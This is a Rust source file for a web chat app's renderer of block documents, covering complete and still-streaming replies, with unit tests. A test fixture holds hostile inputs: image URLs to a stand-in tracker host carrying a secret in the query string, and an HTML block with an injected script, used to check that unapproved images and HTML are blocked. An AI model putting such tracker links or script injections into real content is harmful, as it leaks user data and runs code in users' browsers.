//! The renderer's wasm chunk: fetched on demand in the browser, and what it renders (a whole
//! document, or the blocks of one still streaming).

use leptos::prelude::*;

use super::render::render;
use super::state::DocState;
use palaver_contract::blocks::model::BlocksDocument;
use palaver_contract::blocks::parse_blocks_partial;

/// What the renderer's chunk is asked to render.
#[derive(Clone)]
pub(crate) enum Rendered {
    /// A checked document as the server sent it: it is read into its types here, in the chunk.
    Document(serde_json::Value),
    /// A reply's text while it streams, and the hosts its images may load from.
    Streaming { text: String, image_hosts: Vec<String> },
}

impl Rendered {
    fn view(self) -> AnyView {
        match self {
            Rendered::Document(document) => match BlocksDocument::from_value(document) {
                Ok(document) => document_view(document, None),
                // The server checked it; a document it sent that does not read is its bug.
                Err(err) => view! {
                    <p class="blocks-error" role="alert" data-testid="blocks-error">
                        {format!("This reply could not be shown: its document could not be read ({err}).")}
                    </p>
                }
                .into_any(),
            },
            Rendered::Streaming { text, image_hosts } => streaming_view(&text, image_hosts),
        }
    }
}

fn streaming_view(text: &str, image_hosts: Vec<String>) -> AnyView {
    let document = parse_blocks_partial(text).into_document();
    view! {
        {(!document.blocks.is_empty())
            .then(|| {
                view! {
                    <div class="blocks-streaming" inert=true data-testid="blocks-streaming">
                        {document_view(document, Some(image_hosts))}
                    </div>
                }
            })}
        <p class="blocks-pending" role="status" data-testid="blocks-pending">
            "Preparing the reply…"
        </p>
    }
    .into_any()
}

/// A document's blocks: a checked one's as the server allowed them; an unchecked one's
/// (`streaming_image_hosts` given) under the check's rules for what may load.
fn document_view(document: BlocksDocument, streaming_image_hosts: Option<Vec<String>>) -> AnyView {
    let state = DocState::new(&document, streaming_image_hosts);
    view! {
        <div class="blocks" data-testid="blocks">
            {document.blocks.into_iter().map(|block| render(block, state)).collect_view()}
        </div>
    }
    .into_any()
}

crate::browser::lazy_view! {
    /// The renderer's chunk: fetched on demand in the browser; on the server the blocks render at once.
    pub(crate) mod renderer in palaver_blocks: |rendered: Rendered| rendered.view(),
    pending: ("blocks-pending", "Preparing the reply…"),
    unavailable: ("blocks-error", "This reply's blocks could not be loaded. Reload the page to try again."),
}

#[cfg(test)]
mod tests {
    use leptos::prelude::*;

    use super::Rendered;

    /// A document cut off while streaming: every complete block but the last (the divider).
    const STREAMED: &str = r#"v: 1
blocks:
  - type: image
    src: "https://tracker.example/leak.png?secret=s3cr3t"
    alt: A tracked pixel
  - type: image
    src: "https://Images.Example.com/roast.jpg"
    alt: The roast
  - type: gallery
    images:
      - {src: "https://tracker.example/gallery.png", alt: A gallery tracker}
      - {src: "data:image/png;base64,AAAA", alt: An inline pixel}
  - type: list
    items:
      - {title: Lamb, image: {src: "https://tracker.example:8443/list.png", alt: A list tracker}}
  - type: card
    title: Carded
    children:
      - type: image
        src: "https://tracker.example/card.png"
        alt: A card tracker
  - type: html
    html: "<img src=https://tracker.example/frame.png><script>parent.pwned = 1</script>"
  - type: divider
"#;

    fn rendered(rendered: Rendered) -> String {
        Owner::new().with(|| rendered.view().to_html())
    }

    fn streamed(image_hosts: &[&str]) -> String {
        let image_hosts = image_hosts.iter().map(|host| host.to_string()).collect();
        rendered(Rendered::Streaming { text: STREAMED.to_string(), image_hosts })
    }

    #[test]
    fn a_streaming_document_loads_only_what_its_check_allows() {
        let html = streamed(&["images.example.com"]);
        // Every image off the allowed hosts, at any depth, is its alt text; the html is not drawn.
        assert!(!html.contains("tracker.example") && !html.contains("<iframe") && !html.contains("pwned"), "{html}");
        assert_eq!(html.matches(r#"class="blocks-image__missing""#).count(), 4, "{html}");
        for alt in ["A tracked pixel", "A gallery tracker", "A list tracker", "A card tracker"] {
            assert!(html.contains(&format!(r#"aria-label="{alt}""#)), "{html}");
        }
        assert!(html.contains("The preview is shown when the reply is complete."), "{html}");
        // What the check allows still loads: an allowed host (in any case), a data: image.
        assert!(html.contains(r#"src="https://Images.Example.com/roast.jpg""#), "{html}");
        assert!(html.contains(r#"src="data:image/png;base64,AAAA""#), "{html}");
        assert!(html.contains("Carded") && !html.contains("blocks-divider"), "the cut-off divider waits: {html}");

        let no_hosts = streamed(&[]);
        assert!(!no_hosts.contains("https://") && no_hosts.contains(r#"aria-label="The roast""#), "{no_hosts}");
    }

    #[test]
    fn a_checked_document_draws_its_images_and_its_sanitized_html() {
        let document = serde_json::json!({"v": 1, "blocks": [
            {"type": "image", "src": "https://images.example.com/roast.jpg", "alt": "The roast"},
            {"type": "html", "html": "<p>Invoice</p>"},
        ]});
        let html = rendered(Rendered::Document(document));
        assert!(html.contains(r#"src="https://images.example.com/roast.jpg""#), "{html}");
        assert!(html.contains("<iframe") && html.contains("Invoice"), "{html}");
    }
}
